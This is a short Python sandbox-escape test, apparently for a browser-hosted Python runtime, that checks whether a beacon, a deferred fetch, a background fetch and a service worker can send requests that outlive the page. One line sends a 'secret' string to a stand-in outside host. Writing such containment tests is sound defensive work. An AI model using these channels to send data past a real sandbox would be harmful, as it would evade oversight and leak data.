# Tries to make requests that outlive a page: with a beacon, a deferred fetch, a background fetch
# and a service worker.
import js

for attempt in (
    lambda: js.navigator.sendBeacon("http://elsewhere.test/beacon", "secret"),
    lambda: js.fetchLater("http://elsewhere.test/later"),
    lambda: js.registration.backgroundFetch.fetch("x", "http://elsewhere.test/background"),
    lambda: js.navigator.serviceWorker.ready,
):
    try:
        attempt()
        print("GOT THROUGH")
    except Exception as error:
        print("refused:", type(error).__name__)
